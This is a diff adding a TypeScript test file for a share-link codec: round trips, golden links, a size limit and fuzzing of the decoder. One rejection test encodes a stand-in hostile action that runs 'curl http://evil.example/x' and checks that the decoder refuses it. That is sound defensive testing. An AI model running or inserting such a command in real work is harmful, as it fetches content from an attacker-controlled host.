@@ -1,0 +1,132 @@
+/**
+ * Share links (issue 6): round trips, golden links that must decode for ever,
+ * the size budget, and a fuzz test of the decoder.
+ */
+import { describe, expect, it } from 'vitest';
+import fc from 'fast-check';
+import { compressToEncodedURIComponent } from 'lz-string';
+import { decodeShareFragment, encodeShareState, LINK_HARD_LIMIT } from './codec.ts';
+import type { ShareStateV1 } from './share-state.ts';
+
+const goldens = import.meta.glob('../../fixtures/links/*.json', { eager: true, import: 'default' }) as Record<string, { link: string; state: ShareStateV1 }>;
+
+function roundTrip(state: ShareStateV1): ShareStateV1 | undefined {
+  const e = encodeShareState(state);
+  if (!e.ok) return undefined;
+  const d = decodeShareFragment(`#${e.fragment}`);
+  return d.ok ? d.state : undefined;
+}
+
+const arbScenario = fc.record({
+  format: fc.constant('bootgraph/1' as const),
+  name: fc.string({ maxLength: 30 }),
+  services: fc.array(
+    fc.record({
+      fmri: fc.stringMatching(/^svc:\/[a-z][a-z0-9]{0,8}(\/[a-z][a-z0-9]{0,8}){0,2}$/),
+      start: fc.record({ duration: fc.nat({ max: 10_000 }), exit: fc.constantFrom(0, 1, 95, 96, 97) }),
+    }),
+    { maxLength: 25 },
+  ).map((ss) => ss.filter((s, i) => ss.findIndex((x) => x.fmri === s.fmri) === i)),
+});
+
+describe('share link codec', () => {
+  it('every golden link decodes to exactly its recorded state', () => {
+    const names = Object.keys(goldens);
+    expect(names.length).toBeGreaterThanOrEqual(4);
+    for (const [name, g] of Object.entries(goldens)) {
+      const d = decodeShareFragment(g.link);
+      expect(d.ok, name).toBe(true);
+      if (d.ok) expect(d.state, name).toEqual(g.state);
+    }
+  });
+
+  it('round-trips generated states', () => {
+    fc.assert(
+      fc.property(
+        fc.record(
+          {
+            p: fc.constantFrom('demo-restart-on', 'clearview-first-boot'),
+            c: fc.dictionary(fc.stringMatching(/^[a-z.]{1,20}$/), fc.string({ maxLength: 30 }), { maxKeys: 6 }),
+            t: fc.nat({ max: 3_600_000 }),
+            sel: fc.string({ maxLength: 80 }),
+            view: fc.record({ z: fc.double({ min: 0.01, max: 10, noNaN: true }), x: fc.integer(), y: fc.integer() }),
+            tour: fc.record({ id: fc.string({ minLength: 1, maxLength: 20 }), step: fc.nat({ max: 40 }) }),
+            boot: fc.integer({ min: 1, max: 9 }),
+          },
+          { requiredKeys: ['p'] },
+        ),
+        (state) => JSON.stringify(roundTrip(state)) === JSON.stringify(state),
+      ),
+      { numRuns: 300 },
+    );
+  });
+
+  it('round-trips whole generated scenarios', () => {
+    fc.assert(fc.property(arbScenario, (s) => JSON.stringify(roundTrip({ s, t: 10 })) === JSON.stringify({ s, t: 10 })), { numRuns: 200 });
+  });
+
+  it('refuses to make a link above the hard limit and says what to do instead', () => {
+    const big = { s: { format: 'bootgraph/1' as const, name: 'x'.repeat(10), services: Array.from({ length: 3000 }, (_, i) => ({ fmri: `svc:/big/s${i}`, common_name: `${Math.sin(i)}${i * 7919}` })) } };
+    const e = encodeShareState(big);
+    expect(e.ok).toBe(false);
+    if (!e.ok) {
+      expect(e.length).toBeGreaterThan(LINK_HARD_LIMIT);
+      expect(e.message).toContain('Download the scenario file');
+    }
+  });
+
+  it('explains each kind of bad link', () => {
+    expect(decodeShareFragment('')).toMatchObject({ ok: false, reason: 'empty' });
+    expect(decodeShareFragment('#v7.abc')).toMatchObject({ ok: false, reason: 'newer' });
+    expect(decodeShareFragment('#pako:eNq')).toMatchObject({ ok: false, reason: 'unknown-format' });
+    const good = encodeShareState({ p: 'demo-restart-on', t: 1 });
+    if (!good.ok) throw new Error('encode');
+    expect(decodeShareFragment(`#${good.fragment.slice(0, good.fragment.length - 6)}`)).toMatchObject({ ok: false });
+    expect(decodeShareFragment(`#v1.${compressToEncodedURIComponent('{"p": 3}')}`)).toMatchObject({ ok: false, reason: 'invalid' });
+    expect(decodeShareFragment(`#v1.${compressToEncodedURIComponent('{"s": {"format": "bootgraph/1", "name": "x", "services": [{"fmri": "svc:/a", "dependencies": [{"name": "d", "grouping": "bogus", "restart_on": "none", "targets": ["svc:/b"]}]}]}}')}`)).toMatchObject({ ok: false, reason: 'invalid' });
+    expect(decodeShareFragment(`#v1.${compressToEncodedURIComponent('{"p":"x","a":[{"at":1,"run":"curl http://evil.example/x"}]}')}`)).toMatchObject({ ok: false });
+  });
+
+  it('fuzz: 100,000 random and mutated inputs never throw', () => {
+    const base = encodeShareState({ p: 'demo-restart-on', c: { 'boot.mode': 'single' }, a: [{ at: 5, run: 'svcadm restart svc:/site/db:default' }], t: 77, sel: 'svc:/site/db:default' });
+    if (!base.ok) throw new Error('encode');
+    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$.#%<>"\'{}[]:,\\';
+    let seed = 12345;
+    const rnd = (): number => {
+      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
+      return seed / 0x7fffffff;
+    };
+    let threw = 0;
+    let accepted = 0;
+    for (let k = 0; k < 100_000; k++) {
+      let s: string;
+      if (k % 2 === 0) {
+        // mutate a valid link: flip, insert, delete or truncate characters
+        const chars = [...base.fragment];
+        const edits = 1 + Math.floor(rnd() * 4);
+        for (let e = 0; e < edits; e++) {
+          const pos = Math.floor(rnd() * chars.length);
+          const op = Math.floor(rnd() * 4);
+          const c = alphabet[Math.floor(rnd() * alphabet.length)] ?? 'A';
+          if (op === 0) chars[pos] = c;
+          else if (op === 1) chars.splice(pos, 0, c);
+          else if (op === 2) chars.splice(pos, 1);
+          else chars.length = Math.max(0, pos);
+        }
+        s = chars.join('');
+      } else {
+        const len = Math.floor(rnd() * 120);
+        s = (rnd() < 0.7 ? 'v1.' : '') + Array.from({ length: len }, () => alphabet[Math.floor(rnd() * alphabet.length)] ?? '').join('');
+      }
+      try {
+        const d = decodeShareFragment(s);
+        if (d.ok) accepted++;
+      } catch {
+        threw++;
+      }
+    }
+    expect(threw).toBe(0);
+    // Some mutations of a valid link still decode to a valid (different) state; most do not.
+    expect(accepted).toBeLessThan(100_000);
+  });
+});
